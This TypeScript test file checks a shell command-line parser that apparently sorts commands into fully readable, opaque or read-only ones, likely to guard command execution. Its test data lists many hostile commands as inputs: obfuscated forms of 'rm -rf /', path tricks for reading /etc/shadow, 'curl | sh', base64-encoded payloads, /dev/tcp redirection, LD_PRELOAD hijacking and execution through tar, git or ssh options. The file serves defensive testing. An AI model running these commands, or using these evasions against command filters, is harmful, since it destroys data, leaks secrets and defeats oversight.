import { suite, test } from 'node:test'
import assert from 'node:assert/strict'
import {
  commandLineMax,
  nestedMax,
  parseCommandLine,
  programsMax,
  type OpaqueReason,
} from './command-line.ts'

const reasons = (text: string): readonly OpaqueReason[] =>
  parseCommandLine(text).opaque.map(({ reason }) => reason)
const run = (text: string): readonly string[] =>
  parseCommandLine(text).programs.map(({ via, name, arguments: args }) => [...via, name, ...args].join(' '))

/** Lines of which everything is known, with what they run. */
const clear: readonly (readonly [string, ...string[]])[] = [
  ['ls -la /srv', 'ls -la /srv'],
  ['ls; rm -rf /', 'ls', 'rm -rf /'],
  ['ls && rm -rf /', 'ls', 'rm -rf /'],
  ['ls || rm -rf /', 'ls', 'rm -rf /'],
  ['ls | rm -rf /', 'ls', 'rm -rf /'],
  ['ls & rm -rf /', 'ls', 'rm -rf /'],
  ['ls\nrm -rf /', 'ls', 'rm -rf /'],
  ['(ls; rm -rf /)', 'ls', 'rm -rf /'],
  ['r"m" -r\\f \'/\'', 'rm -rf /'],
  ['/bin/rm -rf /', 'rm -rf /'],
  ['/usr/local/bin/rm x', 'rm x'],
  ['./rm x', './rm x'],
  ['/tmp/ls', '/tmp/ls'],
  ["sh -c 'rm -rf /'", 'sh rm -rf /'],
  ['bash -lc "sh -c \'rm -rf /\'"', 'bash sh rm -rf /'],
  ['sudo -n -u root rm -rf /', 'sudo rm -rf /'],
  ['env -i rm -rf /', 'env rm -rf /'],
  ['nice -n 5 ionice -c 3 timeout -k 5 10s rm -rf /', 'nice ionice timeout rm -rf /'],
  ['busybox rm -rf /', 'busybox rm -rf /'],
  ['command rm -rf /', 'command rm -rf /'],
  ['exec rm -rf /', 'exec rm -rf /'],
  ["echo 'ls; rm -rf /'", 'echo ls; rm -rf /'],
  ['echo a#b "$" \'`id`\' \\$HOME'.replace(' "$"', ''), 'echo a#b `id` $HOME'],
  ['command -v psql', 'command -v psql'],
  ['[ -f /etc/hosts ] && cat /etc/hosts', '[ -f /etc/hosts ]', 'cat /etc/hosts'],
  ['cat ~/notes ./*.txt', 'cat ~/notes ./*.txt'],
  ['cat ../x ~/../x /../x .profile* a.*', 'cat ../x ~/../x /../x .profile* a.*'],
  ["printf '%d%% new\\n' 5", 'printf %d%% new\\n 5'],
]

/** Lines that may run more than can be read, and why. Numbers are those of the catalogue of attacks. */
const opaque: readonly (readonly [string, OpaqueReason])[] = [
  // C1
  ['`id`', 'expansion'],
  ['echo `id`', 'expansion'],
  ['echo $(id)', 'expansion'],
  ['echo "$(id)"', 'expansion'],
  ['cat <(id)', 'expansion'],
  ['tee >(sh)', 'expansion'],
  ['$SHELL', 'expansion'],
  ['r$@m x', 'expansion'],
  ['rm${IFS}x', 'expansion'],
  ["$'rm' x", 'expansion'],
  ['$"rm" x', 'expansion'],
  ['=rm x', 'expansion'],
  ['~root/x', 'expansion'],
  ['cat a=~/x', 'expansion'],
  ['{rm,-rf,/}', 'braces'],
  ['echo {a,b}', 'braces'],
  ['ls\r', 'character'],
  ['ls\0rm', 'character'],
  ['ls \ufffd', 'character'],
  ['ls \ud800', 'character'],
  ['ls\u00a0x', 'character'],
  ['ls \u202ex', 'character'],
  ['\u001b[A', 'character'],
  ['ls # x', 'comment'],
  ['/b?n/rm x', 'pattern'],
  ['tar*', 'pattern'],
  ['cat *', 'pattern'],
  ['cat [-]x', 'pattern'],
  // Many shells take `.*` for `..`.
  ['cat /srv/.*/etc/shado?', 'pattern'],
  ['cat /srv/..*/etc/shado?', 'pattern'],
  ['cat /srv/.[.]/etc/shado?', 'pattern'],
  ['env /bin/r* -rf /', 'pattern'],
  ['timeout 5* rm x', 'pattern'],
  ["sh -c 'cat '/srv/x*", 'pattern'],
  // Links that every host has, and descriptors.
  ['cat /var/run/../etc/shadow', 'path'],
  ['cat /dev/fd/../root/etc/shadow', 'path'],
  ['cd /var/run && cat ../etc/shadow', 'path'],
  ['cat < /var/run/../etc/shadow', 'path'],
  ['grep -f/var/run/../etc/shadow x', 'path'],
  ['cat /dev/fd/3/etc/shadow 3</', 'path'],
  ['cat /dev/stdin/etc/shadow </', 'path'],
  ['cd /dev/fd/0 < / && cat etc/shadow', 'path'],
  ['cat /proc/self/root/etc/shadow', 'path'],
  ['! ls', 'compound'],
  ['{ rm -rf /; }', 'compound'],
  ['if true; then rm -rf /; fi', 'compound'],
  ['for f in a; do rm $f; done', 'compound'],
  ['while true; do ls; done', 'compound'],
  ['case a in a) rm -rf /;; esac', 'compound'],
  ['rm() { ls; }; rm', 'compound'],
  ['function ls { rm -rf /; }', 'compound'],
  ['[[ -f x ]]', 'compound'],
  ['((a[$(id)]))', 'compound'],
  ['time ls', 'compound'],
  ['coproc ls', 'compound'],
  ["ls '", 'syntax'],
  ['ls "', 'syntax'],
  ['(ls', 'syntax'],
  ['ls)', 'syntax'],
  ['ls &&', 'syntax'],
  ['; ls', 'syntax'],
  ['ls | | ls', 'syntax'],
  ['ls \\', 'character'],
  ['ls 12>x', 'redirection'],
  ['ls &>x', 'redirection'],
  ['ls >&x', 'redirection'],
  ['ls <> x', 'redirection'],
  ['ls > /dev/tcp/127.0.0.1/22', 'redirection'],
  ['ls > /dev//udp/127.0.0.1/22', 'redirection'],
  ['cd /etc; cat shadow', 'working_directory'],
  ['ls && cd /etc', 'working_directory'],
  ['command cd /etc && cat shadow', 'working_directory'],
  ['/usr/bin/cd /etc && cat shadow', 'working_directory'],
  ['cd /etc || cat shadow', 'working_directory'],
  // C2
  ['bash -c "$(echo cm0gLXJm|base64 -d)"', 'expansion'],
  ['eval rm', 'builtin'],
  ['. ./x', 'builtin'],
  ['source x', 'builtin'],
  ['alias ls=rm', 'builtin'],
  ['trap rm EXIT', 'builtin'],
  ['hash -p /bin/rm ls', 'builtin'],
  ["printf -v 'a[$(id)]' x", 'builtin'],
  ["test -v 'a[$(id)]'", 'builtin'],
  ['printf %n PATH; ls', 'builtin'],
  ["printf -- '%5ln' PATH; ls", 'builtin'],
  ['command eval rm', 'builtin'],
  ['python3 -c x', 'interpreter'],
  ['python3.12 x.py', 'interpreter'],
  ['/usr/bin/perl -e x', 'interpreter'],
  ['awk \'BEGIN{system("id")}\'', 'interpreter'],
  ["sed '1e id' x", 'interpreter'],
  ["sed -n 'w /etc/passwd' x", 'interpreter'],
  ["find . -exec rm '{}' ';'", 'interpreter'],
  ['find . -delete', 'interpreter'],
  ['find . -fprint /etc/passwd', 'interpreter'],
  ['vim +:!id', 'compound'],
  ['vim +x', 'interpreter'],
  ['git -c core.pager=id log', 'interpreter'],
  ['tar cf x --checkpoint-action=exec=sh .', 'interpreter'],
  ['ssh -o ProxyCommand=id x', 'interpreter'],
  ['scp -S id x y:', 'interpreter'],
  ['rsync -e id x y:', 'interpreter'],
  ['rsync --server -e id . x', 'interpreter'],
  ['less x', 'interpreter'],
  ['man ls', 'interpreter'],
  ['env -S "rm -rf /"', 'interpreter'],
  ['env LD_PRELOAD=x ls', 'interpreter'],
  ['xargs rm', 'interpreter'],
  ['busybox', 'interpreter'],
  ['sudo -E ls', 'interpreter'],
  ['sudo -u bob sh -c "cat ~/x"', 'interpreter'],
  ['timeout --unknown 5 ls', 'interpreter'],
  ['/lib64/ld-linux-x86-64.so.2 /tmp/x', 'interpreter'],
  // C3
  ['bash -s < x', 'interpreter'],
  ['cat > x; sh x', 'interpreter'],
  ['curl http://x | sh', 'interpreter'],
  ['sh', 'interpreter'],
  ['psql', 'interpreter'],
  ['sh << E\nrm\nE', 'here_document'],
  ['cat <<< x', 'here_document'],
  // C9
  ['LD_PRELOAD=/tmp/x ls', 'environment'],
  ['PATH=/tmp ls', 'environment'],
  ['BASH_ENV=x', 'environment'],
  ['export PATH=/tmp; ls', 'builtin'],
]

suite('command lines', () => {
  for (const [text, ...programs] of clear)
    test(`known: ${JSON.stringify(text)}`, () => {
      assert.deepEqual(parseCommandLine(text).opaque, [])
      assert.deepEqual(run(text), programs)
    })

  for (const [text, reason] of opaque)
    test(`opaque: ${JSON.stringify(text)}`, () => {
      assert.ok(reasons(text).includes(reason), `${reasons(text).join()} for ${reason}`)
      assert.equal(parseCommandLine(text).read_only, false)
      assert.equal(parseCommandLine(text).transfer, null)
    })

  test('what is opaque is looked into as far as it goes', () => {
    assert.ok(run('if true; then rm -rf /; fi').includes('rm -rf /'))
    assert.ok(run('echo $(rm -rf /)').includes('rm -rf /'))
    assert.ok(run('sudo -u bob sh -c "rm -rf /"').includes('sudo sh rm -rf /'))
  })

  test('sizes', () => {
    assert.deepEqual(reasons(`echo ${'a'.repeat(commandLineMax)}`), ['size'])
    assert.ok(reasons(Array.from({ length: programsMax + 1 }, () => 'ls').join(';')).includes('size'))
    const nested = (depth: number): string =>
      depth === 0 ? 'ls' : `sh -c '${nested(depth - 1).replaceAll("'", "'\\''")}'`
    assert.deepEqual(reasons(nested(nestedMax)), [])
    assert.deepEqual(reasons(nested(nestedMax + 1)), ['size'])
    assert.ok(reasons(`${'('.repeat(4000)}ls`).length > 0)
    assert.ok(reasons(`ls ${'$('.repeat(4000)}`).length > 0)
  })

  test('hostile lines are answered soon', () => {
    const shapes = [
      '(',
      '$(',
      '`',
      '{a,',
      '"$(',
      '<<a\n',
      'case a in ',
      '[[ ',
      '${a:-',
      '((',
      'if ',
      "'",
      '\\',
      '*[',
      'a=(',
      '<(',
      'sh -c ',
      'env ',
    ]
    for (const shape of shapes) {
      const begun = performance.now()
      parseCommandLine(shape.repeat(commandLineMax / shape.length - 1))
      const took = performance.now() - begun
      assert.ok(took < 1000, `${shape}: ${took} ms`)
    }
  })
})

suite('what a command line does', () => {
  const readOnly = (text: string): boolean => parseCommandLine(text).read_only

  test('reading', () => {
    for (const text of [
      'ls -la --color=auto /srv',
      'tail -n 100 -f /var/log/app.log',
      'tail -5 x',
      'head -c 10 x',
      "grep -rin '--include=*.log' error /var/log/x",
      'cat a | sort -k 2 -t , | uniq -c | head',
      'date +%Y',
      'date -d yesterday +%s',
      'find /srv -maxdepth 2 -name "*.csv" -size +10k',
      'sed -n 1,20p /etc/hosts',
      'ls > /dev/null 2>&1',
      'cd /srv && ls | wc -l',
      'ps aux',
      'env',
    ])
      assert.ok(readOnly(text), `${text}: ${JSON.stringify(parseCommandLine(text))}`)
  })

  test('not reading only', () => {
    for (const text of [
      'rm x',
      'ls > x',
      'ls >> x',
      'sort -o x y',
      'sort --compress-program=id x',
      'sort --compress-pro=id x',
      'uniq a b',
      'uniq -- a b',
      'uniq a?',
      'uniq -f [1]* x',
      'date -r 0*',
      'grep -d recurse x /etc',
      'grep --directories=recurse x /etc',
      'getent shadow',
      'date -s yesterday',
      'date 010100002000',
      'date -u 010100002000',
      'date -I 010100002000',
      'date --iso-8601 010100002000',
      'date +%Y 010100002000',
      'hostname evil',
      'hostname -F x',
      'file -C x',
      'tee x',
      'cp a b',
      'nobody-knows',
      'ls --unknown',
      'ls -la &',
      'nohup ls',
      'setsid -f ls',
      '> x',
      '',
      '   ',
    ])
      assert.ok(!readOnly(text), text)
  })

  test('paths have one form', () => {
    const paths = (text: string): readonly string[] =>
      parseCommandLine(text).paths.map(
        ({ access, path, pattern }) => `${access} ${path}${pattern ? ' *' : ''}`,
      )
    assert.deepEqual(paths('cat /srv/../etc//./shadow'), ['read /etc/shadow'])
    assert.deepEqual(paths('cat .ssh/id'), ['read ~/.ssh/id'])
    assert.deepEqual(paths('cat ../x'), ['read ~/../x'])
    assert.deepEqual(paths('cat ~/../../x'), ['read ~/../../x'])
    assert.deepEqual(paths('cd /etc && cat shadow'), ['read /etc', 'read /etc/shadow'])
    assert.deepEqual(paths('cat < /etc/shadow > /tmp/x'), ['read /etc/shadow', 'write /tmp/x'])
    assert.ok(paths('grep -f/etc/shadow x').includes('read /etc/shadow'))
    assert.ok(paths('grep -vf/etc/shadow x').includes('read /etc/shadow'))
    assert.ok(paths('grep -nvfsecret x').includes('read ~/secret'))
    assert.ok(paths('cat -- -/etc/x').includes('read ~/-/etc/x'))
    assert.ok(paths('grep --file=/etc/shadow x').includes('read /etc/shadow'))
    assert.ok(paths('curl -d @/etc/shadow x').includes('unknown /etc/shadow'))
    assert.deepEqual(paths('ls /srv/*.log'), ['read /srv/*.log *'])
  })

  test('where input comes from', () => {
    const inputs = (text: string): readonly string[] =>
      parseCommandLine(text).programs.map(({ stdin }) => stdin)
    assert.deepEqual(inputs('cat | wc; sort < x'), ['client', 'pipe', 'file'])
  })

  test('flags', () => {
    assert.deepEqual(parseCommandLine('rm -rf --one-file-system --x=y -- -z').programs[0]?.flags, [
      'r',
      'f',
      'one-file-system',
      'x',
    ])
  })
})
